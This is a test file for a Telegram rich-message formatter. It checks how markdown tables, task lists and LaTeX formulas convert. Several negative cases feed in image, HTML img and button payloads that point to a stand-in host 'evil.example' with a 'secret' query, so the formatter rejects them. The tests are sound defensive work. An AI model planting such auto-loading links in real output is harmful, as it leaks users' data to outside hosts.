import { expect, test } from "vitest";
import { rich } from "../../../src/platforms/telegram/rich.ts";

const TABLE = "| City | °C |\n|------|---:|\n| Oslo | 4 |";

test.each([
  ["a table", TABLE, TABLE],
  ["a table without outer bars", "City | °C\n--- | ---\nOslo | 4", "City | °C\n--- | ---\nOslo | 4"],
  ["a task list", "To do:\n- [x] milk\n- [ ] bread", "To do:\n- [x] milk\n- [ ] bread"],
  ["a formula in dollars", "So\n$$E = mc^2$$", "So\n$$E = mc^2$$"],
  ["formulas in LaTeX's own marks", "\\( x^2 \\) and \\[y\n= 1\\]", "$x^2$ and $$y\n= 1$$"],
  [
    "LaTeX's marks in code stay",
    "\\(x\\): `\\(x\\)`\n```\n\\[y\\]\n```",
    "$x$: `\\(x\\)`\n```\n\\[y\\]\n```",
  ],
])("%s is a rich message", (_, text, markdown) => {
  expect(rich.suits(text)).toBe(true);
  expect(rich.markdownFor(42, text)).toBe(markdown);
});

test.each([
  ["plain words", "Hello **you**, it costs $5 or $6 | maybe"],
  ["a rule and a list", "- one\n- [two](https://a.example)\n\n---\n\nend"],
  // Telegram would load it, with whatever the address says.
  ["a picture beside a table", `${TABLE}\n\n![](https://evil.example/?q=secret)`],
  ["HTML beside a table", `${TABLE}\n\n<img src="https://evil.example/?q=secret">`],
  ["a table of more rows than one holds", TABLE + "\n| Rome | 18 |".repeat(500)],
  ["a table of more characters than one holds", `${TABLE}\n${"word ".repeat(7_000)}`],
  ["a button beside a table", `${TABLE}\n\n<tg-button type="url" url="https://evil.example">ok</tg-button>`],
])("%s is an ordinary one", (_, text) => {
  expect(rich.suits(text)).toBe(false);
});

test("a chat that refused one is sent no other", () => {
  rich.refusedIn(7);
  expect(rich.markdownFor(7, TABLE)).toBeUndefined();
  expect(rich.markdownFor(42, TABLE)).toBe(TABLE);
});
